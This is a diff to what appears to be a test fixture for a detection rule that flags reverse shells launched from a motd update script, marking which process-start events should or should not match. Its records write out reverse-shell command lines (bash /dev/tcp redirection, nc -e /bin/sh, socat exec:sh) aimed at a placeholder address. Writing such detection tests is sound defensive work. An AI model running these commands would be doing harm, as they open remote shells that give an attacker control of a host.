@@ -7,7 +7,12 @@ base {"event.category": "process", "event.type": "start", "event.action": "exec"
 + zsh {"process.executable": "/usr/bin/zsh", "process.args": ["zsh", "-i"]}
 + far-descendant {"tocsin.process.ancestors.executable": ["/usr/bin/a", "/usr/bin/b", "/usr/bin/c", "/etc/update-motd.d/99-x"]}
 + child-dev-tcp {"process.parent.executable": "/etc/update-motd.d/99-x", "tocsin.process.ancestors.executable": ["/etc/update-motd.d/99-x"], "process.args": ["bash", "-c", "exec 3<>/dev/tcp/198.51.100.1/443"]}
-+ nohup-setsid {"process.executable": "/usr/bin/nohup", "process.parent.executable": "/etc/update-motd.d/99-x", "tocsin.process.ancestors.executable": ["/etc/update-motd.d/99-x"], "process.args": ["nohup", "setsid", "bash", "-c", "bash -i >& /dev/tcp/198.51.100.1/443 0>&1"]}
+- wrapper-nohup {"process.executable": "/usr/bin/nohup", "process.args": ["nohup", "bash", "-c", "exec 3<>/dev/tcp/198.51.100.1/443"]}
+- wrapper-setsid {"process.executable": "/usr/bin/setsid", "process.args": ["setsid", "bash", "-c", "exec 3<>/dev/tcp/198.51.100.1/443"]}
+- wrapper-env {"process.executable": "/usr/bin/env", "process.args": ["env", "bash", "-c", "exec 3<>/dev/tcp/198.51.100.1/443"]}
+- wrapper-timeout {"process.executable": "/usr/bin/timeout", "process.args": ["timeout", "bash", "-c", "exec 3<>/dev/tcp/198.51.100.1/443"]}
++ wrapper-elsewhere {"process.executable": "/opt/nohup", "process.args": ["nohup", "-c", "exec 3<>/dev/tcp/198.51.100.1/443"]}
++ wrapped {"process.executable": "/usr/bin/bash", "process.parent.executable": "/etc/update-motd.d/99-x", "tocsin.process.ancestors.executable": ["/etc/update-motd.d/99-x"], "process.args": ["bash", "-c", "bash -i >& /dev/tcp/198.51.100.1/443 0>&1"]}
 + nc-e {"process.executable": "/usr/bin/nc", "process.args": ["nc", "198.51.100.1", "443", "-e", "/bin/sh"]}
 + socat {"process.executable": "/usr/bin/socat", "process.args": ["socat", "tcp:198.51.100.1:1", "exec:sh"]}
 + python {"process.executable": "/usr/bin/python3", "process.args": ["python3", "-c", "import socket"]}
